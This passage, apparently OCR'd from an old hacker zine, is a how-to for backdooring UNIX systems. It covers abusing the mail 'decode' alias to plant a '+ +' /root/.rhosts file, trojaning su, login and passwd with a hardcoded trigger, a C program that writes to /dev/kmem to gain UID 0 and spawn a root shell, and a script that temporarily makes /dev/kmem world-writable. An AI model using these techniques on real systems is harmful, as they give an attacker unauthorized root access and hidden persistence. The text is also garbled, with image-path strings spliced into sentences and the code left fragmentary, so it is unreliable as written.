"decode: "|/usr/bin/uudecode"to the /etc/aliases file. Usally, you would then create a uuencoded .rhosts file
with the full pathname embedded.

#! /bin/csh

# Create our .rhosts file. Note this will output to stdout.

echo "+ +" > tmpfile

/usr/bin/uuencode tmpfile /root/.rhosts

Next telnet to the desired site, port 25. Simply fakemail to decode and use as the
subject body, the uuencoded version of the
.rhosts file. For a one liner (not faked, however) do this:

%echo "+ +" | /usr/bin/uuencode /root/.rhosts | mail

You can be as creative as you wish in this case. You can setup an alias that, when
mailed to, will run a program of your
choosing. Many of the previous scripts and methods can be employed here.

The Covert[10] Trojan code in common programs. This is a rather sneaky method that is really
only detectable by programs such tripwire.
The idea is simple: insert trojan code in the source of a commonly used program.
Some of most useful programs to us in this
case are su, login and passwd because theyalready run SUID root, and need no
permission modification. Below are some
general examples of what you would want to do, after obtaining the correct
sourcecode for the particular flavor of UNIX you
are backdooring. (Note: This may not always be possible, as some UNIX vendors are
not so generous with thier sourcecode.)
Since the code is very lengthy and different for many flavors, I will just include
basic psuedo-code:

get input;
if input is special hardcoded flag, spawn evil trojan;
else if input is valid, continue;
else quit with error;

Not complex or difficult. Trojans of this nature can be done in less than 10 lines
of additional code.

The Esoteric[11] /dev/kmem exploit. It represents the virtual of the system. Since the kernel
keeps it's parameters in memory, it is possible
to modify the memory of the machine to change the UID of your processes. To do so
requires that /dev/kmem have read/write
permission. The following steps are executed: Open the /dev/kmem device, seek to
your page in memory, overwrite the UID of
your current process, then spawn a csh, which will inherit this UID. The following
programdoes just that.

/* If /kmem is is readable and writable, this program will change the user's
UID and GID to 0. */
/* This code originally appeared in "UNIX security: A practical tutorial"
with some modifications by */


#define KEYWORD "nomenclature1"

struct user userpage;

long address(), userlocation;

int main(argc, argv, envp)

int argc;
char *argv[], *envp[];{int count, fd;

long where, lseek();

if(argv[1]){ /* we've got an argument, is it the keyword? */

printf("Cannot read or write to /dev/kmem\n");printf("Cannot seek to user page\n");

count=read(fd,&userpage,sizeof(struct user));

if(count!=sizeof(struct user)){
printf("Cannot read user page\n");

printf("Current UID: %d\n",userpage.u_ruid);

printf("Current GID: %d\n",userpage.g_ruid);



printf("Cannot seek to user page\n");

write(fd,&userpage,((char *)&(userpage.u_procp))-((charexecle("/bin/csh","/bin/csh","-i",(char *)0, envp);


} /* End main */


#define LNULL ((LDFILE *)0)

long address(){

LDFILE *object;
SYMENT symbol;
long idx=0;

fprintf(stderr,"Cannot open /unix.\n");

fprintf(stdout,"User page is at

fprintf(stderr,"Cannot read symbol table in /unix.\n");


[12] Since the previous code requires /dev/kmem to be worldaccessable, and this
is not likely a natural event, we need to take
care of this. My advice is to write a shell script similar to the one in [7] that
will change the permissions on /dev/kmem for a
discrete amount of time (say 5 minutes) and then restore the original permissions.
You can add this source to the source in [7]:

chmod 666 /dev/kmem

sleep 300 # Nap for 5 minutes
chmod 600 /dev/kmem # Or whatever it was before

FromThe Infinity Concept Issue II